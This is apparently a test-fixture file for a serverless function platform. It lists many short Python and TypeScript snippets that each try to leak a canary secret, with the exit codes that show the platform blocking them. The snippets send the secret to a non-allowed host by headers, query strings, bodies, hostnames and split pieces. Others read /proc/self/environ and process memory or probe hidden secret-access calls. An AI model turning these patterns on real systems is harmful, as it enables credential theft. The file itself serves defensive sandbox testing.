/**
 * UDFs that try to get a secret out, each a few lines. Those of Python have the placeholder as `key`, `A` (a server that it is granted
 * for), `B` (one that it is not) and `get(url, headers)`; those of TypeScript `key`, `a` and `b`. What they give back is their result.
 * `ends` is the exit status where it is not 0, `says` a part of the error.
 */
export const PYTHON_PRELUDE = `import base64, json, logging, os, pickle, sys, traceback, urllib.error, urllib.parse, urllib.request
import fused
from fused._host import call, HostError

def get(url, headers={}, data=None, method=None):
    with urllib.request.urlopen(urllib.request.Request(url, headers=headers, data=data, method=method)) as answer:
        return [answer.status, answer.reason, dict(answer.headers), answer.read().decode("latin-1"), answer.geturl()]

def tried(work):
    try:
        return repr(work())
    except BaseException as error:
        return "".join(traceback.TracebackException.from_exception(error, capture_locals=True).format())

class Holder:
    def __init__(self, text):
        self.text = text

@fused.cache
def cached(text):
    return {"text": text, "holder": Holder(text)}

@fused.cache
def fetched(url, text):
    return get(url, {"Authorization": "Bearer " + text})
`;

export const PYTHON = {
  "signs, and is taken for what it is not": {
    code: `how = [{}, {"algorithm": "HMAC-SHA-1"}, {"key": "base64"}, {"algorithm": key}, {"algorithm": "AWS4-HMAC-SHA256", "scope": "20260131/a/b/aws4_request"}]
return [tried(lambda: fused.sign_with_secret("CANARY", b"", **options)) for options in how]`,
  },
  "is printed": { code: "print(key, flush=True); print(key[::-1], file=sys.stderr); return 'done'" },
  "is logged": { code: "logging.basicConfig(level=0); logging.warning('key %s', key); return 'done'" },
  "is the result": { code: "return key" },
  "is in the result": { code: "return {key: [key, {'a': key.encode()}]}" },
  "is the result as bytes": { code: "return base64.b64encode(key.encode())" },
  "is raised": { code: "raise ValueError(key)", ends: 1, says: "ValueError: fuseletsecret" },
  "is raised with notes and causes": {
    code: "error = ValueError('a'); error.add_note(key); raise error from RuntimeError(key)",
    ends: 1,
  },
  "is the message of an exit": { code: "sys.exit(key)", ends: 1 },
  "is in locals of a traceback": {
    code: "return tried(lambda: 1 / 0) + tried(lambda: get(B + '/', {'x-api-key': key}))",
  },
  "is written to a file": { code: "open('/tmp/key', 'w').write(key); return open('/tmp/key').read()" },
  "is put into the environment": { code: "os.environ['KEY'] = key; return dict(os.environ)" },
  "is pickled": { code: "return pickle.dumps([Holder(key), key])" },
  "is an argument and a value of a cached function": {
    code: "return [cached(key)['text'], cached(key)['holder'].text]",
  },
  "is echoed into a cached value": { code: "return [fetched(A + '/echo', key), fetched(A + '/echo', key)]" },
  "is put into storage": {
    code: "call('storage.put', 'fd://key', key.encode()); return call('storage.get', 'fd://key')",
  },
  "is the name of a file in storage": {
    code: "call('storage.put', 'fd://' + key, b'x'); return call('storage.list', 'fd://')",
  },
  "is echoed by a header": { code: "return get(A + '/echo', {'Authorization': 'Bearer ' + key})" },
  "is echoed from Basic authentication": {
    code: "return get(A + '/echo', {'Authorization': 'Basic ' + base64.b64encode(('user:' + key).encode()).decode()})",
  },
  "is echoed from a cookie": { code: "return get(A + '/echo', {'Cookie': 'k=' + key + '; b=1'})" },
  "is echoed from the query": {
    code: "return get(A + '/echo?' + urllib.parse.urlencode({'k': key, 'l': 'a ' + key}))",
  },
  "is echoed in headers, cookies and the status": { code: "return get(A + '/headers', {'x-api-key': key})" },
  "is echoed to HEAD": { code: "return get(A + '/headers', {'x-api-key': key}, method='HEAD')" },
  "is echoed by an error": {
    code: "get(A + '/status?k=' + key)",
    ends: 1,
    says: "HTTPError",
  },
  "is echoed by an error whose body is read": {
    code: `
try:
    get(A + '/auth', {'x-api-key': key})
except urllib.error.HTTPError as error:
    return [error.code, str(error), error.read(), dict(error.headers), error.url]`,
  },
  "is echoed a byte at a time": { code: "return get(A + '/bytes', {'x-api-key': key})" },
  "is echoed compressed": { code: "return get(A + '/gzip', {'x-api-key': key})" },
  "is echoed in other encodings": { code: "return get(A + '/encoded', {'x-api-key': key})" },
  "is echoed in events": { code: "return get(A + '/events', {'x-api-key': key})" },
  "is echoed far behind": { code: "return get(A + '/large', {'x-api-key': key})[3].strip('xy')" },
  "is echoed and broken off": { code: "return tried(lambda: get(A + '/broken', {'x-api-key': key}))" },
  "is echoed to a later request without it": {
    code: "get(A + '/echo', {'x-api-key': key}); return get(A + '/echo?k=x')",
  },
  "is in the location of a redirect to another origin": {
    code: "return get(A + '/redirect?to=elsewhere&k=' + key)",
    ends: 3,
    says: "--allow-secrets=CANARY@",
  },
  "is in the location of a redirect that is read": {
    code: `
class Stay(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args):
        return None
try:
    urllib.request.build_opener(Stay).open(A + '/redirect?to=elsewhere&k=' + key)
except urllib.error.HTTPError as error:
    return [dict(error.headers), error.read(), tried(lambda: get(error.headers['Location']))]`,
  },
  "is in a header that a redirect takes along": {
    code: "return get(A + '/redirect?to=elsewhere', {'x-api-key': key})",
    ends: 3,
  },
  "is in the location of a redirect within the origin": {
    code: "return get(A + '/redirect?to=here&k=' + key)",
  },
  "goes to another host in a header": {
    code: "get(B + '/', {'Authorization': 'Bearer ' + key})",
    ends: 3,
    says: "--allow-secrets=CANARY@",
  },
  "goes to another host in Basic authentication": {
    code: "get(B + '/', {'Authorization': 'Basic ' + base64.b64encode((':' + key).encode()).decode()})",
    ends: 3,
  },
  "goes to another host in the query": { code: "get(B + '/?k=' + key)", ends: 3 },
  "goes to another host in the path and the body": { code: "return get(B + '/' + key, data=key.encode())" },
  "goes to another host in a header's name": { code: "return get(B + '/', {key: '1', 'x-' + key: '2'})" },
  "goes to another host as parts": {
    code: "return [get(B + '/?k=' + part) for part in (key[:20], key[20:], key[::-1], key.upper(), base64.b32encode(key.encode()).decode())]",
  },
  "goes over http to the name of another machine": {
    code: "get('http://canary.example/', {'x-api-key': key})",
    ends: 1,
    says: "secrets are sent over https",
  },
  "goes into a host's name": { code: "return tried(lambda: get('https://' + key[:40] + '.invalid/'))" },
  "goes into a URL's password": {
    code: "return tried(lambda: get(A.replace('//', '//u:' + key + '@') + '/echo'))",
  },
  "goes into a download": {
    code: "return open(fused.download(A + '/echo?k=' + key, 'echo.json')).read()",
  },
  "goes into a download from another host": { code: "fused.download(B + '/?k=' + key, 'b.json')", ends: 3 },
  "goes into storage of the web": { code: "return tried(lambda: call('storage.get', A + '/echo?k=' + key))" },
  "goes to another UDF": {
    code: `
@fused.udf
def inner(text: str):
    return [text, fused.secrets.CANARY]
return fused.run(inner, text=key)`,
  },
  "goes into headers of the context": {
    code: "return [fused.context.get_headers(), repr(fused.context.get_global_context())]",
  },
  "is asked for under other names": {
    code: "return [tried(lambda: fused.secrets[name]) for name in ('canary', 'CANARY:reveal', 'CANARY@' + A[7:], '../CANARY', 'CANARY\\0', '*', 'key')]",
  },
  "is asked for at other doors": {
    code: "return [tried(lambda: call(name, 'local', 'CANARY')) for name in ('secrets.read', 'secrets.set', 'secrets.delete', 'secrets.__proto__', 'secrets.constructor', 'vault.read', 'secrets.get.value')] + [tried(lambda: call('secrets.get', value)) for value in ({'name': 'CANARY', 'reveal': True}, ['CANARY'], 'CANARY:reveal', None)]",
  },
  "is set and deleted": {
    code: "return [tried(lambda: fused.secrets.__setitem__('CANARY', 'x')), tried(lambda: setattr(fused.secrets, 'CANARY', 'x')), tried(lambda: fused.secrets.__delitem__('CANARY')), fused.secrets.CANARY == key]",
  },
  "is looked for in the interpreter's memory": {
    code: `
import ctypes, gc
get(A + '/echo', {'x-api-key': key})
texts = [value for value in gc.get_objects() if isinstance(value, (str, bytes, dict, list))]
found = []
for start in range(1 << 20, 16 << 20, 1 << 20):
    found.append((ctypes.c_char * (1 << 20)).from_address(start).raw.count(b'canary-'))
return [len(texts), found]`,
  },
  "is looked for in files of the system": {
    code: "return [tried(lambda: open(path, 'rb').read(1000)) for path in ('/proc/self/environ', '/proc/self/mem', os.path.expanduser('~/.local/share/fuselet/secrets/key'))] + [tried(lambda: call('storage.get', 'file://' + FOLDER + path)) for path in ('/data/secrets/key', '/data/secrets/secrets.db', '/data/secrets/secrets.db-wal')]",
  },
  "is printed when the time is over": {
    code: "print(get(A + '/echo', {'x-api-key': key}), flush=True)\nwhile True: pass",
    ends: 124,
  },
  "is printed when the memory is used up": {
    code: "print(get(A + '/echo', {'x-api-key': key}), flush=True)\nx = []\nwhile True: x.append(bytearray(1 << 24))",
    ends: 125,
  },
};

export const TYPESCRIPT_PRELUDE = `import { download, host, secrets, table } from "fuselet/udf";

const tried = async (work: () => unknown): Promise<string> => {
  try {
    return JSON.stringify(await work());
  } catch (error) {
    return \`\${error} \${(error as Error).stack} \${JSON.stringify(error)} \${(error as Error).cause}\`;
  }
};
const all = async (answer: Response) => [answer.status, answer.statusText, [...answer.headers], answer.url, await answer.text()];
`;

export const TYPESCRIPT = {
  "signs, and is taken for what it is not": {
    code: `const how = [{}, { algorithm: "HMAC-SHA-1" }, { key: "base64" }, { algorithm: key }, { algorithm: "AWS4-HMAC-SHA256", scope: "20260131/a/b/aws4_request" }];
const tried = [];
for (const options of how) tried.push(await secrets.sign("CANARY", "", options).catch((error) => [error.name, error.message, error.stack]));
return tried;`,
  },
  "is printed": { code: "console.log(key, { key }); console.error([key]); return 'done';" },
  "is the result": { code: "return { [key]: [key, new TextEncoder().encode(key)] };" },
  "is raised": { code: "throw Object.assign(new Error(key, { cause: key }), { key });", ends: 1 },
  "is raised late": {
    code: "setTimeout(() => { throw new Error(key); }, 1); await new Promise((go) => setTimeout(go, 50)); return 1;",
    ends: 1,
  },
  "is echoed by headers": {
    code: "return all(await fetch(a + '/echo', { headers: { authorization: 'Bearer ' + key, 'x-api-key': key } }));",
  },
  "is echoed from Basic authentication": {
    code: "return all(await fetch(a + '/echo', { headers: { authorization: 'Basic ' + btoa('u:' + key) } }));",
  },
  "is echoed from the query": {
    code: "return all(await fetch(a + '/echo?' + new URLSearchParams({ k: key })));",
  },
  "is echoed in headers and the status": {
    code: "return all(await fetch(a + '/headers', { headers: { 'x-api-key': key } }));",
  },
  "is echoed in other encodings": { code: "return all(await fetch(a + '/encoded?k=' + key));" },
  "is echoed a byte at a time": {
    code: "const parts = []; for await (const part of (await fetch(a + '/bytes?k=' + key)).body!) parts.push(...part); return String.fromCharCode(...parts);",
  },
  "is echoed in events": {
    code: "const parts = []; for await (const part of (await fetch(a + '/events?k=' + key)).body!) parts.push(new TextDecoder().decode(part)); return parts;",
  },
  "is echoed and broken off": { code: "return tried(async () => all(await fetch(a + '/broken?k=' + key)));" },
  "follows a redirect within the origin": {
    code: "return all(await fetch(a + '/redirect?to=here&k=' + key, { headers: { 'x-api-key': key } }));",
  },
  "follows a redirect to another origin": {
    code: "return all(await fetch(a + '/redirect?to=elsewhere&k=' + key, { headers: { 'x-api-key': key, authorization: 'Bearer ' + key } }));",
  },
  "is in the location of a redirect": {
    code: "return all(await fetch(a + '/redirect?to=elsewhere&k=' + key, { redirect: 'manual' }));",
  },
  "goes to another host": {
    code: "await fetch(b + '/', { headers: { 'x-api-key': key } });",
    ends: 3,
    says: "--allow-secrets=CANARY@",
  },
  "goes to another host in the query": { code: "await fetch(b + '/?k=' + key);", ends: 3 },
  "goes to another host in a body": {
    code: "const form = new FormData(); form.set(key, key); return all(await fetch(b + '/', { method: 'POST', body: form }));",
  },
  "goes to another host in half": {
    code: "return all(await fetch(b + '/?' + key.slice(0, 30) + '&k=' + key.slice(30)));",
  },
  "goes over http to the name of another machine": {
    code: "return tried(() => fetch('http://canary.example/?k=' + key));",
  },
  "goes into a download": { code: "return (await download(a + '/echo?k=' + key, 'ts.json')).text();" },
  "goes into storage": {
    code: "await host.call('storage.put', 'fd://ts', new TextEncoder().encode(key)); return host.call('storage.get', 'fd://ts');",
  },
  "goes into a table": { code: "return tried(() => table(new TextEncoder().encode(key)));" },
  "is asked for at other doors": {
    code: "return Promise.all(['secrets.read', 'secrets.set', 'secrets.constructor', 'secrets.hasOwnProperty', 'net.secrets'].map((name) => tried(() => host.call(name, 'local', 'CANARY'))));",
  },
};

/** The whole source of one. */
export const pythonSource = ({ code }) =>
  `${PYTHON_PRELUDE}
@fused.udf
def udf(A: str, B: str, FOLDER: str):
    key = fused.secrets["CANARY"]
${code.replace(/^\n/, "").replace(/^/gm, "    ")}
`;

export const typescriptSource = ({ code }) =>
  `${TYPESCRIPT_PRELUDE}
export default async function leak({ A: a, B: b }: { A: string; B: string; FOLDER: string }) {
  const key = await secrets.get("CANARY");
  ${code}
}
`;
